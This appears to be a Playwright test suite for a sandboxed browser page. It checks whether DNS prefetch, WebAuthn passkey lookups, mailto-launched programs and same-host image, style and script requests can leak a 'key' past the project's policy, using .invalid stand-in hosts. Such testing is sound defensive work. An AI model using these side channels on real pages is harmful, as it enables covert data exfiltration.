/** The ways out that no listener of ours hears: names that are looked up, other programs, and the page's own host. */
import { readFileSync } from 'node:fs';
import type { BrowserContext, Page } from '@playwright/test';
import { everywhere, keptOffline, knownToStayOpen, type Place } from './fixtures/hostile-places';
import { inKeptProfile, noticedWhile, type Noticed } from './fixtures/kept-profile';
import { expect, test } from './fixtures/test';
import { waysOut } from './fixtures/ways-out';

const places = [...everywhere, keptOffline] as const;
const unheardOf = ['dns-prefetch', 'passkey', 'another program'] as const;
const ownHost = 'its own host';

/** What came of each: in the words of the table. */
function heardIn({ netLog, programs }: Noticed): Readonly<Record<string, string>> {
  return {
    ...(netLog.includes('a-prefetched-key.invalid') ? { 'dns-prefetch': 'a name' } : {}),
    ...(netLog.includes('a-passkey.invalid') ? { passkey: 'a name' } : {}),
    ...(programs.includes('a-mailed-key') ? { 'another program': 'a program' } : {}),
  };
}

/** A passkey's owner may have other sites, which the browser asks; where none can be used it does not begin. */
async function bringAuthenticator(page: Page): Promise<void> {
  const devTools = await page.context().newCDPSession(page);
  await devTools.send('WebAuthn.enable');
  const has = { hasResidentKey: true, hasUserVerification: true, isUserVerified: true };
  await devTools.send('WebAuthn.addVirtualAuthenticator', {
    options: { protocol: 'ctap2', transport: 'internal', ...has },
  });
}

/** @param isStarted whether another program is to be waited for */
async function tryUnheard(page: Page, programs: () => string, isStarted: boolean): Promise<void> {
  await bringAuthenticator(page);
  await page.bringToFront();
  await page.evaluate(async () => {
    const link = document.createElement('link');
    document.head.append(
      Object.assign(link, { rel: 'dns-prefetch', href: 'https://a-prefetched-key.invalid' }),
    );
    const publicKey = { challenge: new Uint8Array(16), rpId: 'a-passkey.invalid', timeout: 1_000 };
    await navigator.credentials.get({ publicKey }).catch(() => undefined);
    // A name is looked up within moments, or never.
    await new Promise((resolve) => setTimeout(resolve, 3_000));
  });
  // What forbids it may show so in the place of the page.
  const mail = () => location.assign('mailto:somebody@example.com?body=a-mailed-key');
  await page.evaluate(mail).catch(() => undefined);
  if (isStarted) await expect.poll(programs, { timeout: 30_000 }).toContain('a-mailed-key');
  else await new Promise((resolve) => setTimeout(resolve, 3_000));
}

/** In the page's own place, by a name where it has one: an address of numbers has no passkeys. */
async function open(context: BrowserContext, address: string, { prepare }: Partial<Place>): Promise<Page> {
  const page = await context.newPage();
  await page.goto(address.replace('127.0.0.1', 'localhost'));
  await prepare?.(page);
  await page.reload();
  return page;
}

for (const [place, openPlace, host] of places) {
  inKeptProfile(
    `${place}: names are looked up, and other programs started, where SECURITY.md says so`,
    async ({ launchOptions }) => {
      inKeptProfile.setTimeout(180_000);
      const opened = await openPlace();
      const known = knownToStayOpen(place, unheardOf);
      try {
        const unguarded = await noticedWhile(launchOptions, async (context, programs) =>
          tryUnheard(await open(context, opened.unguarded, {}), programs, true),
        );
        const possible = unheardOf.filter((name) => host === 'on a host' || name !== 'passkey');
        expect(Object.keys(heardIn(unguarded)), 'without a policy all of them').toEqual(possible);
        const guarded = await noticedWhile(launchOptions, async (context, programs) =>
          tryUnheard(await open(context, opened.guarded, opened), programs, 'another program' in known),
        );
        expect(heardIn(guarded)).toEqual(known);
      } finally {
        await opened.close();
      }
    },
  );
}

for (const [place, openPlace] of places.filter(([, , host]) => host === 'on a host')) {
  inKeptProfile(
    `${place}: the page’s own host can be told something, and SECURITY.md says so`,
    async ({ context, silence }) => {
      const opened = await openPlace();
      try {
        const page = await open(context, opened.guarded, opened);
        await page.evaluate(() => {
          const add = (name: string, properties: object) =>
            document.body.append(Object.assign(document.createElement(name), properties));
          add('img', { src: './a-key-in-an-image' });
          add('link', { rel: 'stylesheet', href: './a-key-in-a-style' });
          const address = './a-key-in-a-script';
          import(/* @vite-ignore */ address).catch(() => undefined);
        });
        const told = () => opened.asked.filter((path) => path.startsWith('/a-key-in-')).sort();
        expect(knownToStayOpen(place, [ownHost])).toEqual({ [ownHost]: 'a message' });
        await expect.poll(told).toEqual(['/a-key-in-a-script', '/a-key-in-a-style', '/a-key-in-an-image']);
      } finally {
        await Promise.all(context.pages().map((one) => one.close()));
        await opened.close();
        silence.take();
      }
    },
  );
}

test('Every row of the table in SECURITY.md is a way out that is tried', () => {
  const document = readFileSync(new URL('../SECURITY.md', import.meta.url), 'utf8');
  const [, table = ''] = /\| Way out [^]*?\n\|[ |-]+\|\n([^]*?)\n\n/.exec(document) ?? [];
  const rows = table.split('\n').map((row) => row.split('|')[1]?.trim() ?? '');
  expect(rows.length).toBeGreaterThan(10);
  const tried = [...waysOut.map(({ name }) => name), ...unheardOf, ownHost];
  expect(rows.filter((row) => !tried.includes(row))).toEqual([]);
});
